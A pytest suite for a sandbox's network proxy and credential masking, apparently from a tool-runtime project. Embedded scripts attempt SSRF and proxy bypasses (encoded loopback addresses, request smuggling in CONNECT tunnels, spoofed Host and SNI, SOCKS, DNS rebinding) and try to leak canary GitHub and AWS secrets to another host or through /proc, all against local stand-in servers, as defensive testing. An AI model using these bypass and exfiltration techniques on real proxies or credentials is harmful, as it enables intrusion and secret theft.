"""`network:` by name (issue 31): real sandboxed processes (python, pip, git, npm) under both launchers,
reaching local origin servers on loopback only through toolrt's proxy, with names mapped by the proxy's
test-only resolver. Every attack aims at a server that must see no connection."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import anyio
import pytest
from net_origins import Authority, Origin, make_authority

from toolrt import Runtime
from toolrt.audit import read_records
from toolrt.execute import ProcessOutcome, build_env, run_process
from toolrt.sandbox import proxy
from toolrt.sandbox.netrules import NetworkRules
from toolrt.sandbox.plan import plan_sandbox
from toolrt.sandbox.policy import SandboxPolicy
from toolrt.sandbox.support import detect_support

SUPPORT = detect_support()
pytestmark = pytest.mark.skipif(
    not (SUPPORT.landlock_abi and SUPPORT.net_namespace), reason=f"no network namespace here: {SUPPORT.describe()}"
)
LAUNCHES = ["thread", "forkserver"]
NAMES = ("pypi.test", "tls.test", "other.test", "git.test", "npm.test", "a.wild.test", "evil.test")


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return make_authority(tmp_path_factory.mktemp("ca"), ("tls.test", "pypi.test", "other.test"))


@pytest.fixture
def resolved() -> Iterator[list[str]]:
    """Every name of `NAMES` resolves to 127.0.0.1 (through the proxy's test-only resolver); the list
    holds each name the proxy looked up."""
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["127.0.0.1"] if name in NAMES else []

    proxy.use_resolver(resolve)
    yield asked
    proxy.use_resolver(None)


@pytest.fixture
def refused(tmp_path: Path) -> Iterator[Origin]:
    """The server every attack aims at: it must accept no connection."""
    (tmp_path / "refused").mkdir()
    (tmp_path / "refused" / "secret").write_text("you should not see this")
    server = Origin(tmp_path / "refused")
    yield server
    server.stop()


def _run(
    argv: list[str],
    root: Path,
    launch: str,
    rules: NetworkRules,
    env: dict[str, str] | None = None,
    on_output: Callable[[str], None] | None = None,
) -> ProcessOutcome:
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    plan = plan_sandbox(SandboxPolicy(network=False, network_rules=rules), support, root=root, output_dir=root / "o")
    assert plan is not None and plan.network_rules == rules and "netns + proxy" in plan.description

    async def main() -> ProcessOutcome:
        return await run_process(
            argv, cwd=root, env={**build_env(), **(env or {})}, timeout=60, sandbox=plan, on_output=on_output
        )

    return anyio.run(main)


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir(exist_ok=True)
    return root


FETCH = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        print(url, "->", urllib.request.urlopen(url, timeout=20).read().decode())
    except Exception as error:
        print(url, "->", type(error).__name__, error)
"""


@pytest.mark.parametrize("launch", LAUNCHES)
def test_an_allowed_name_is_reached_and_the_rest_refused_with_a_reason(
    tmp_path: Path, resolved: list[str], refused: Origin, launch: str
) -> None:
    (tmp_path / "site").mkdir()
    origin = Origin(tmp_path / "site")
    try:
        rules = NetworkRules(((f"pypi.test:{origin.port}", "*.wild.test:*"),))
        urls = [
            f"http://pypi.test:{origin.port}/echo",
            f"http://evil.test:{refused.port}/secret",
            f"http://a.wild.test:{refused.port}/secret",  # a wildcard name resolving to loopback
            f"http://pypi.test:{refused.port}/secret",  # the allowed name on another port
            f"http://127.0.0.1:{refused.port}/secret",
        ]
        result = _run([sys.executable, "-c", FETCH, *urls], _project(tmp_path), launch, rules)
    finally:
        origin.stop()
    assert f"/echo -> host=pypi.test:{origin.port} auth=None" in result.output
    assert result.output.count("HTTP Error 403: Forbidden") == 4
    assert refused.accepted == 0 and origin.accepted == 1
    assert result.network_refused == (
        f"evil.test:{refused.port}: not in the allow list (host list)",
        f"a.wild.test:{refused.port}: it resolves to 127.0.0.1, inside this machine or its network (allowed "
        "only when the host's list names the host exactly)",
        f"pypi.test:{refused.port}: not on that port (host list)",
        f"127.0.0.1:{refused.port}: not in the allow list (host list)",
    )
    assert (
        f"toolrt's network proxy refused evil.test:{refused.port}: not in the allow list (host list); if the task "
        f"needs it, ask the person to add 'evil.test' (or 'evil.test:{refused.port}') to sandbox.network.allow"
    ) in result.output


ATTACKS = r"""
import json, socket, ssl, sys
config = json.loads(sys.argv[1])
port, tls_port = config["refused"], config["tls"]
found = {}

def tunnel(authority):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    return s, s.recv(4096).split(b"\r\n")[0].decode()

def closed(s):
    try:
        return s.recv(100) == b""
    except OSError:
        return True

for literal in ["127.0.0.1", "127.1", "0x7f.0.0.1", "2130706433", "017700000001", "[::1]", "[::ffff:127.0.0.1]"]:
    found["literal " + literal] = tunnel(f"{literal}:{port}")[1]
found["wildcard to loopback"] = tunnel(f"a.wild.test:{port}")[1]
found["allowed name, other port"] = tunnel(f"pypi.test:{port}")[1]

s, status = tunnel(f"tls.test:{port}")  # allowed on any port: the tunnel must carry TLS for tls.test
s.sendall(b"GET /secret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
found["smuggled request"] = (status, closed(s))

s, status = tunnel(f"tls.test:{port}")
try:
    ssl.create_default_context(cafile=config["ca"]).wrap_socket(s, server_hostname="other.test")
    found["other server name"] = (status, "handshake done")
except OSError as error:
    found["other server name"] = (status, type(error).__name__)

s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
head = f"GET http://tls.test:{port}/secret HTTP/1.1\r\nHost: tls.test:{port}\r\nX: ".encode()
s.sendall(head + b"a" * 70000 + b"\r\n\r\n")
found["huge header"] = s.recv(4096).split(b"\r\n")[0].decode()

s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(f"GET http://tls.test:{port}/secret HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())
found["host header of another host"] = s.recv(4096).split(b"\r\n")[0].decode()

found["no such port"] = tunnel("tls.test:99999")[1]
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"GET http://tls.test:x/secret HTTP/1.1\r\nHost: tls.test\r\n\r\n")
found["malformed port"] = closed(s)

def readall(stream):
    data = b""
    while chunk := stream.recv(4096):
        data += chunk
    return data.decode().rsplit("\r\n", 1)[-1]

def socks(kind, address, to):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(b"\x05\x01\x00" + bytes([kind]) + address + to.to_bytes(2, "big"))
    return s, s.recv(10)[1]

found["socks ipv4 literal"] = socks(1, socket.inet_aton("127.0.0.1"), port)[1]
found["socks ipv6 literal"] = socks(4, socket.inet_pton(socket.AF_INET6, "::1"), port)[1]
found["socks name to loopback"] = socks(3, b"\x0ba.wild.test", port)[1]
s, code = socks(3, b"\x08tls.test", tls_port)
wrapped = ssl.create_default_context(cafile=config["ca"]).wrap_socket(s, server_hostname="tls.test")
wrapped.sendall(b"GET /echo HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
found["socks allowed over tls"] = (code, readall(wrapped))
s, status = tunnel(f"tls.test:{tls_port}")
wrapped = ssl.create_default_context(cafile=config["ca"]).wrap_socket(s, server_hostname="tls.test")
wrapped.sendall(b"GET /echo HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
found["connect allowed over tls"] = (status, readall(wrapped))
print(json.dumps(found))
"""


@pytest.mark.parametrize("launch", LAUNCHES)
def test_attacks_from_inside_reach_no_refused_server(
    tmp_path: Path, resolved: list[str], refused: Origin, authority: Authority, launch: str
) -> None:
    (tmp_path / "tls").mkdir()
    origin = Origin(tmp_path / "tls", tls=authority)
    try:
        rules = NetworkRules((("tls.test:*", "*.wild.test:*", f"pypi.test:{origin.port}"),))
        config = json.dumps({"refused": refused.port, "tls": origin.port, "ca": str(authority.ca)})
        result = _run([sys.executable, "-c", ATTACKS, config], _project(tmp_path), launch, rules)
    finally:
        origin.stop()
    assert result.exit_code == 0, result.output
    found = json.loads(result.output.splitlines()[0])
    forbidden = "HTTP/1.1 403 Forbidden"
    for literal in ("127.0.0.1", "127.1", "0x7f.0.0.1", "2130706433", "017700000001", "[::1]", "[::ffff:127.0.0.1]"):
        assert found[f"literal {literal}"] == forbidden, literal
    assert found["wildcard to loopback"] == forbidden
    assert found["allowed name, other port"] == forbidden
    assert found["smuggled request"] == ["HTTP/1.1 200 Connection established", True]
    assert found["other server name"][1] != "handshake done"
    assert found["huge header"] == "HTTP/1.1 431 Request Header Fields Too Large"
    assert found["host header of another host"] == forbidden
    assert found["no such port"] == forbidden and found["malformed port"] is True
    assert found["socks ipv4 literal"] == found["socks ipv6 literal"] == found["socks name to loopback"] == 2
    assert found["socks allowed over tls"] == [0, "host=tls.test auth=None"]
    assert found["connect allowed over tls"] == ["HTTP/1.1 200 Connection established", "host=tls.test auth=None"]
    assert refused.accepted == 0
    assert origin.accepted == 2
    rules_said = "\n".join(result.network_refused)
    assert "the tunnel's first bytes are not a TLS handshake (a tunnel carries TLS only)" in rules_said
    assert "the TLS ClientHello names 'other.test', not tls.test" in rules_said
    assert "a request head over 65536 bytes" in rules_said
    assert "the Host header (evil.test) names another host than the URL" in rules_said


def test_a_head_past_the_limit_is_refused_even_when_it_arrives_in_one_piece() -> None:
    """anyio's `receive_until` stops reading at its limit, but returns a longer head when the blank line
    came in the same read: the proxy's bound held only when the bytes arrived slowly (a CI run got a
    70 KB head through to the origin server, which answered `431 Line too long` itself)."""
    from anyio.streams.buffered import BufferedByteReceiveStream

    async def main() -> None:
        huge = b"GET http://tls.test/ HTTP/1.1\r\nX: " + b"a" * 70_000 + b"\r\n\r\n"
        send, receive = anyio.create_memory_object_stream[bytes](2)
        async with send, receive:
            await send.send(huge)
            await send.send(huge)
            assert len(await BufferedByteReceiveStream(receive).receive_until(b"\r\n\r\n", proxy.MAX_HEAD)) > 70_000
            with pytest.raises(anyio.DelimiterNotFound, match=str(proxy.MAX_HEAD)):
                await proxy._receive_head(BufferedByteReceiveStream(receive))
            small = b"GET http://tls.test/ HTTP/1.1\r\nHost: tls.test"
            await send.send(small + b"\r\n\r\nbody")
            assert await proxy._receive_head(BufferedByteReceiveStream(receive)) == small

    anyio.run(main)


def test_the_address_checked_is_the_address_connected(tmp_path: Path, refused: Origin) -> None:
    """DNS rebinding: the name resolves to the allowed server's address once, then to another one; the
    proxy looks it up once and connects to what it checked."""
    (tmp_path / "site").mkdir()
    origin = Origin(tmp_path / "site")
    rebound = Origin(tmp_path / "refused", address="127.0.0.2")
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["127.0.0.1"] if len(asked) == 1 else ["127.0.0.2"]

    proxy.use_resolver(resolve)
    try:
        rules = NetworkRules((("rebind.test:*",),))
        url = f"http://rebind.test:{origin.port}/echo"
        result = _run([sys.executable, "-c", FETCH, url], _project(tmp_path), "thread", rules)
    finally:
        proxy.use_resolver(None)
        origin.stop()
        rebound.stop()
    assert f"-> host=rebind.test:{origin.port}" in result.output
    assert asked == ["rebind.test"] and origin.accepted == 1 and rebound.accepted == 0


DIES = """
import sys, urllib.request
url = sys.argv[1]
print("first", urllib.request.urlopen(url, timeout=20).read().decode(), flush=True)
open(sys.argv[2]).read()  # the test stops the proxy, then writes here
try:
    print("second", urllib.request.urlopen(url, timeout=20).read().decode())
except Exception as error:
    print("second failed:", error)
import socket
try:
    socket.create_connection(("203.0.113.7", 80), timeout=5)
except OSError as error:
    print("direct:", error)
"""


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_proxy_that_dies_mid_call_leaves_no_route(tmp_path: Path, resolved: list[str], launch: str) -> None:
    (tmp_path / "site").mkdir()
    origin = Origin(tmp_path / "site")
    root = _project(tmp_path)
    fifo = root / "go"
    os.mkfifo(fifo)

    def on_output(text: str) -> None:
        if text.startswith("first"):
            proxy.stop_proxy()
            with open(fifo, "w") as go:
                go.write("go")

    try:
        rules = NetworkRules((("pypi.test:*",),))
        argv = [sys.executable, "-c", DIES, f"http://pypi.test:{origin.port}/echo", str(fifo)]
        result = _run(argv, root, launch, rules, on_output=on_output)
    finally:
        origin.stop()
    assert "first host=pypi.test" in result.output
    assert "second failed: <urlopen error [Errno 111] Connection refused>" in result.output
    assert "direct: [Errno 101] Network is unreachable" in result.output
    assert origin.accepted == 1 and not proxy.proxy_running()


def test_a_program_ignoring_the_proxy_fails_closed_with_a_message(tmp_path: Path, resolved: list[str]) -> None:
    code = "import socket; socket.create_connection(('203.0.113.7', 443), timeout=5)"
    result = _run([sys.executable, "-c", code], _project(tmp_path), "thread", NetworkRules((("pypi.test",),)))
    assert result.exit_code == 1 and "OSError: [Errno 101] Network is unreachable" in result.output
    assert "toolrt: this tool reaches the network only through toolrt's proxy" in result.output


def _wheel(directory: Path) -> Path:
    """A minimal wheel of `tinypkg` 1.0."""
    path = directory / "tinypkg-1.0-py3-none-any.whl"
    files = {
        "tinypkg/__init__.py": b"VALUE = 1\n",
        "tinypkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
        "tinypkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}\n"
        for name, data in files.items()
    )
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr("tinypkg-1.0.dist-info/RECORD", record + "tinypkg-1.0.dist-info/RECORD,,\n")
    return path


def test_pip_download_from_an_https_index_through_the_proxy(
    tmp_path: Path, resolved: list[str], authority: Authority
) -> None:
    site = tmp_path / "index"
    (site / "simple" / "tinypkg").mkdir(parents=True)
    (site / "files").mkdir()
    wheel = _wheel(site / "files")
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (site / "simple" / "tinypkg" / "index.html").write_text(
        f'<html><body><a href="../../files/{wheel.name}#sha256={digest}">{wheel.name}</a></body></html>\n'
    )
    origin = Origin(site, tls=authority)
    root = _project(tmp_path)
    try:
        argv = [sys.executable, "-m", "pip", "download", "--isolated", "--no-cache-dir", "--disable-pip-version-check"]
        argv += ["--no-deps", "--index-url", f"https://pypi.test:{origin.port}/simple/", "--cert", str(authority.ca)]
        argv += ["-d", str(root / "wheels"), "tinypkg"]
        result = _run(argv, root, "thread", NetworkRules(((f"pypi.test:{origin.port}",),)))
    finally:
        origin.stop()
    assert result.exit_code == 0, result.output
    assert (root / "wheels" / wheel.name).read_bytes() == wheel.read_bytes()
    assert result.network_refused == ()


def _git(*argv: str, cwd: Path) -> None:
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"]
    subprocess.run(["git", *identity, *argv], cwd=cwd, check=True, capture_output=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_ls_remote_through_the_proxy(tmp_path: Path, resolved: list[str], refused: Origin) -> None:
    work = tmp_path / "work"
    work.mkdir()
    _git("init", "-q", cwd=work)
    (work / "README").write_text("hello\n")
    _git("add", "README", cwd=work)
    _git("commit", "-qm", "first", cwd=work)
    served = tmp_path / "served"
    served.mkdir()
    _git("clone", "-q", "--bare", str(work), str(served / "repo.git"), cwd=tmp_path)
    _git("update-server-info", cwd=served / "repo.git")
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=work, capture_output=True, text=True, check=True)
    origin = Origin(served)
    try:
        rules = NetworkRules(((f"git.test:{origin.port}",),))
        argv = ["git", "ls-remote", f"http://git.test:{origin.port}/repo.git"]
        result = _run(argv, _project(tmp_path), "forkserver", rules, env={"GIT_TERMINAL_PROMPT": "0"})
        denied = ["git", "ls-remote", f"http://evil.test:{refused.port}/repo.git"]
        refusal = _run(denied, _project(tmp_path), "forkserver", rules, env={"GIT_TERMINAL_PROMPT": "0"})
    finally:
        origin.stop()
    assert result.exit_code == 0, result.output
    assert f"{head.stdout.strip()}\trefs/heads/main" in result.output
    assert refusal.exit_code != 0 and refused.accepted == 0
    assert refusal.network_refused == (f"evil.test:{refused.port}: not in the allow list (host list)",)


@pytest.mark.skipif(shutil.which("npm") is None, reason="node (npm) is not installed")
def test_npm_view_through_the_proxy(tmp_path: Path, resolved: list[str]) -> None:
    site = tmp_path / "registry"
    site.mkdir()
    (site / "tinypkg").write_text(
        json.dumps(
            {
                "name": "tinypkg",
                "dist-tags": {"latest": "1.0.0"},
                "versions": {"1.0.0": {"name": "tinypkg", "version": "1.0.0", "dist": {"tarball": "x", "shasum": ""}}},
            }
        )
    )
    origin = Origin(site)
    root = _project(tmp_path)
    try:
        argv = ["npm", "view", "tinypkg", "version", "--registry", f"http://npm.test:{origin.port}/"]
        env = {"npm_config_cache": str(root / "npm-cache"), "npm_config_update_notifier": "false"}
        result = _run(argv, root, "thread", NetworkRules(((f"npm.test:{origin.port}",),)), env=env)
    finally:
        origin.stop()
    assert result.exit_code == 0, result.output
    assert result.output.strip().splitlines()[-1] == "1.0.0"
    assert origin.accepted >= 1


def test_the_call_result_and_the_audit_say_what_was_refused(
    tmp_path: Path, resolved: list[str], refused: Origin, monkeypatch: pytest.MonkeyPatch, project_writer: object
) -> None:
    """End to end: the host names hosts (TOOLRT_SANDBOX__NETWORK), the project narrows them, a tool's
    process asks for one of each."""
    (tmp_path / "site").mkdir()
    origin = Origin(tmp_path / "site")
    allowed = f"http://pypi.test:{origin.port}/echo"
    narrowed_away = f"http://git.test:{refused.port}/secret"
    tool = "id: fetcher\ndescription: Fetches fixed URLs through the sandbox's proxy, for the network tests.\n"
    tool += f"handler: {{argv: [{sys.executable}, -c, {json.dumps(FETCH)}, {allowed}, {narrowed_away}]}}\n"
    settings = "sandbox:\n  network:\n    allow: [pypi.test:*, evil.test:*]\n"
    writer = project_writer
    assert callable(writer)
    root = writer(tmp_path / "p", {"fetcher": tool}, settings=settings)
    monkeypatch.setenv("TOOLRT_SANDBOX__NETWORK", '{"allow": ["pypi.test:*", "git.test:*"]}')
    rt = Runtime.load(root)
    try:
        rules = rt.snapshot.sandbox.network_rules
        assert rt.snapshot.sandbox.network is False
        assert rules == NetworkRules((("pypi.test:*", "git.test:*"), ("pypi.test:*", "evil.test:*")))
        result = rt.call_sync("fetcher", {})
    finally:
        rt.close()
        origin.stop()
    assert f"-> host=pypi.test:{origin.port}" in result.output
    assert f"toolrt's network proxy refused git.test:{refused.port}: not in the allow list (narrowed list)" in (
        result.output
    )
    assert result.metadata["network_refused"] == [f"git.test:{refused.port}: not in the allow list (narrowed list)"]
    assert refused.accepted == 0
    path = rt.audit.path
    assert path is not None
    records, _ = read_records(path)
    assert records[-1]["tool"] == "fetcher"
    assert records[-1]["network_refused"] == [f"git.test:{refused.port}: not in the allow list (narrowed list)"]


# The masked token sent four ways by a script in the sandbox: in its declared header to its host (echoed,
# and reflected back), elsewhere in the request, and to another host.
_SENT_FOUR_WAYS = """def fetch(url, headers, body=None):
    request = urllib.request.Request(url, headers=headers, data=body)
    return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
print("declared", fetch(f"{api}/echo", {"Authorization": f"Bearer {token}"}))
print("reflected", fetch(f"{api}/reflect", {"Authorization": f"Bearer {token}"}))
print("elsewhere", fetch(f"{api}/echo?t={token}", {"X-Other": token}, token.encode()))
print("other host", fetch(f"{echo}/echo", {"Authorization": f"Bearer {token}"}))
"""

CANARY = (
    r"""
import os, ssl, sys, urllib.request
token = os.environ["GITHUB_TOKEN"]
context = ssl.create_default_context()  # SSL_CERT_FILE: toolrt's bundle, with the proxy's authority
context.load_verify_locations(sys.argv[3])  # and the test's own, which signed the uninterrupted server
print("placeholder", token)
print("other", os.environ.get("AWS_SECRET_ACCESS_KEY"))
print("environ", open("/proc/self/environ", "rb").read().count(token.encode()))
api, echo = sys.argv[1], sys.argv[2]
"""
    + _SENT_FOUR_WAYS
)


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_masked_secret_is_never_readable_inside_and_still_works_toward_its_host(
    tmp_path: Path, resolved: list[str], authority: Authority, monkeypatch: pytest.MonkeyPatch, launch: str
) -> None:
    from net_origins import Reflecting

    from toolrt.sandbox.credentials import Credential

    secret = "ghp_canary" + os.urandom(12).hex()
    monkeypatch.setenv("GITHUB_TOKEN", secret)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-canary-" + os.urandom(8).hex())
    api = Reflecting(tmp_path, tls=authority)
    echo = Reflecting(tmp_path, tls=authority)
    credentials = (
        Credential("GITHUB_TOKEN", "mask", "tls.test", "Authorization"),
        Credential("AWS_SECRET_ACCESS_KEY", "deny"),
    )
    proxy.trust_upstream(str(authority.ca))
    try:
        rules = NetworkRules(((f"tls.test:{api.port}", f"other.test:{echo.port}"),))
        support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
        policy = SandboxPolicy(network=False, network_rules=rules, credentials=credentials)
        root = _project(tmp_path)
        plan = plan_sandbox(policy, support, root=root, output_dir=root / "o")
        assert plan is not None
        # as if env_allow passed them both
        env = {**build_env(), "GITHUB_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": "leaked"}
        argv = [sys.executable, "-c", CANARY, f"https://tls.test:{api.port}", f"https://other.test:{echo.port}"]
        argv.append(str(authority.ca))

        async def main() -> ProcessOutcome:
            return await run_process(argv, cwd=root, env=env, timeout=60, sandbox=plan)

        result = anyio.run(main)
    finally:
        proxy.trust_upstream(None)
        api.stop()
        echo.stop()
    assert result.exit_code == 0, result.output
    assert secret not in result.output and "leaked" not in result.output
    placeholder = next(line.split()[1] for line in result.output.splitlines() if line.startswith("placeholder"))
    assert placeholder.startswith("toolrt-masked-github_token-") and secret[:6] not in placeholder
    assert "other None" in result.output and "environ 1" in result.output
    stars = "*" * len(secret)
    assert f"declared host=tls.test:{api.port} auth=Bearer {stars}" in result.output  # its reply is redacted
    assert api.seen[0]["authorization"] == f"Bearer {secret}"  # the host got the real value
    assert api.seen[1]["authorization"] == f"Bearer {secret}"
    assert f"reflected Bearer {stars}" in result.output
    elsewhere = api.seen[2]
    assert elsewhere["path"] == f"/echo?t={placeholder}" and elsewhere["x-other"] == placeholder
    assert elsewhere["body"] == placeholder and secret not in json.dumps(api.seen[2])
    assert echo.seen[0]["authorization"] == f"Bearer {placeholder}"  # another host gets the placeholder


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_denied_credential_file_reads_as_empty_inside(tmp_path: Path, launch: str) -> None:
    from toolrt.sandbox.config import call_plan
    from toolrt.sandbox.credentials import Credential

    secret = tmp_path / "home" / ".aws" / "credentials"
    secret.parent.mkdir(parents=True)
    secret.write_text("aws_secret_access_key = canary\n")
    root = _project(tmp_path)
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    outcomes = []
    for credentials in ((), (Credential("", "deny", file=str(secret.resolve())),)):
        plan = call_plan(SandboxPolicy(credentials=credentials), root=root, output_dir=root / "o", support=support)
        assert plan is not None

        async def main(plan: object = plan) -> ProcessOutcome:
            return await run_process(["cat", str(secret)], cwd=root, env=build_env(), timeout=60, sandbox=plan)  # type: ignore[arg-type]

        outcomes.append(anyio.run(main))
    assert outcomes[0].output == "aws_secret_access_key = canary\n"  # the control: readable without the entry
    assert outcomes[1].exit_code == 0 and outcomes[1].output == ""
    assert secret.read_text() == "aws_secret_access_key = canary\n"


FILE_CANARY = (
    r"""
import os, ssl, subprocess, sys, urllib.request
path, api, echo = sys.argv[1], sys.argv[2], sys.argv[3]
directory = os.path.dirname(path)
def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True)
    return (done.stdout + done.stderr).replace("\n", " ")
token = open(path).read().strip()
print("placeholder", token)
print("cat", run("cat", path))
print("hexdump", run("hexdump", "-C", path))
print("proc root", open(f"/proc/self/root{path}").read().strip())
with open(path) as held:
    print("proc fd", open(f"/proc/self/fd/{held.fileno()}").read().strip())
print("mountinfo", open("/proc/self/mountinfo").read().count("credentials"))
print("link", run("ln", path, os.path.join(directory, "linked")), run("cat", os.path.join(directory, "linked")))
print("directory", run("grep", "-r", "", directory), sorted(os.listdir(directory)))
print("umount", run("umount", path), run("cat", path))
context = ssl.create_default_context()  # SSL_CERT_FILE: toolrt's bundle, with the proxy's authority
context.load_verify_locations(sys.argv[4])
"""
    + _SENT_FOUR_WAYS
)


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_masked_credential_file_reads_as_its_placeholder_and_still_works_toward_its_host(
    tmp_path: Path, resolved: list[str], authority: Authority, launch: str
) -> None:
    import secrets as random

    from net_origins import Reflecting

    from toolrt.sandbox.config import call_plan
    from toolrt.sandbox.credentials import Credential

    def canary() -> str:  # no hex digit: no piece of it can turn up inside a hex placeholder by chance
        return "ghp_" + "".join(random.choice("ghijklmnopqrstuvwxyz") for _ in range(32))

    secret = canary()
    path = tmp_path / "home" / ".config" / "credentials"
    path.parent.mkdir(parents=True)
    path.write_text(secret + "\n")
    (tmp_path / "home" / ".config" / "other").write_text("not a secret\n")
    api = Reflecting(tmp_path, tls=authority)
    echo = Reflecting(tmp_path, tls=authority)
    credentials = (Credential("", "mask", "tls.test", "Authorization", file=str(path.resolve())),)
    rules = NetworkRules(((f"tls.test:{api.port}", f"other.test:{echo.port}"),))
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    root = _project(tmp_path)
    policy = SandboxPolicy(network=False, network_rules=rules, credentials=credentials)
    urls = [f"https://tls.test:{api.port}", f"https://other.test:{echo.port}", str(authority.ca)]

    def call(script: str) -> ProcessOutcome:
        plan = call_plan(policy, root=root, output_dir=root / "o", support=support)
        assert plan is not None

        async def main() -> ProcessOutcome:
            argv = [sys.executable, "-c", script, str(path), *urls]
            return await run_process(argv, cwd=root, env=build_env(), timeout=60, sandbox=plan)

        return anyio.run(main)

    proxy.trust_upstream(str(authority.ca))
    try:
        result = call(FILE_CANARY)
        renewed = canary()
        path.write_text(renewed + "\n")  # changed on the host: read again when the next process starts
        again = call(FILE_CANARY)
    finally:
        proxy.trust_upstream(None)
        api.stop()
        echo.stop()
    assert result.exit_code == 0, result.output
    for output, value in ((result.output, secret), (again.output, renewed)):
        assert not any(value[k : k + 5] in output for k in range(len(value) - 4)), output  # no piece of it
    placeholder = next(line.split()[1] for line in result.output.splitlines() if line.startswith("placeholder"))
    assert placeholder.startswith("toolrt-masked-file-")
    for read in ("cat", "proc root", "proc fd"):
        assert f"{read} {placeholder}" in result.output
    assert "hexdump 00000000  74 6f 6f 6c 72 74 2d 6d" in result.output  # "toolrt-m"
    assert "mountinfo 1" in result.output  # the file is a mount point: the real one lies beneath it
    assert "link ln: failed to create hard link" in result.output
    assert f"{path}:{placeholder}" in result.output and f"{path.parent / 'other'}:not a secret" in result.output
    assert "must be superuser to unmount." in result.output and f"unmount.  {placeholder}" in result.output
    stars = "*" * len(secret)
    assert f"declared host=tls.test:{api.port} auth=Bearer {stars}" in result.output  # its reply is redacted
    assert api.seen[0]["authorization"] == f"Bearer {secret}"  # the declared host got the real value
    assert f"reflected Bearer {stars}" in result.output
    elsewhere = api.seen[2]
    assert elsewhere["path"] == f"/echo?t={placeholder}" and elsewhere["x-other"] == placeholder
    assert elsewhere["body"] == placeholder and secret not in json.dumps(elsewhere)
    assert echo.seen[0]["authorization"] == f"Bearer {placeholder}"  # another host gets the placeholder
    assert again.exit_code == 0, again.output
    renamed = next(line.split()[1] for line in again.output.splitlines() if line.startswith("placeholder"))
    assert renamed.startswith("toolrt-masked-file-") and renamed != placeholder
    assert api.seen[4]["authorization"] == f"Bearer {renewed}"  # the new content, as the host has it now
    assert path.read_text() == renewed + "\n"


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_placeholder_file_swapped_for_a_link_to_the_secret_fails_the_start(tmp_path: Path, launch: str) -> None:
    """The placeholder lies in a temp directory a sandboxed process may write: one that became a symlink
    to the real file after toolrt checked it (as a concurrent process could make it) is not mounted."""
    from toolrt.errors import ToolFailure
    from toolrt.sandbox.config import call_plan
    from toolrt.sandbox.credentials import Credential

    path = tmp_path / "token"
    path.write_text("swapped-canary\n")
    root = _project(tmp_path)
    credentials = (Credential("", "mask", "tls.test", file=str(path)),)
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    plan = call_plan(SandboxPolicy(credentials=credentials), root=root, output_dir=root / "o", support=support)
    assert plan is not None and len(plan.masks.sources) == 1
    placeholder = Path(plan.masks.sources[0][1])
    placeholder.parent.chmod(0o755)
    placeholder.unlink()
    placeholder.symlink_to(path)

    async def main() -> ProcessOutcome:
        return await run_process(["cat", str(path)], cwd=root, env=build_env(), timeout=60, sandbox=plan)

    with pytest.raises(ToolFailure, match="the sandbox could not be set up") as failed:
        anyio.run(main)
    assert "Nothing was run" in str(failed.value) and "swapped-canary" not in str(failed.value)
    assert f"{placeholder}, is no regular file" in str(failed.value)  # under either launcher
    again = call_plan(SandboxPolicy(credentials=credentials), root=root, output_dir=root / "o", support=support)
    assert again is not None and again.masks.sources[0][1] != str(placeholder)  # a new one is written
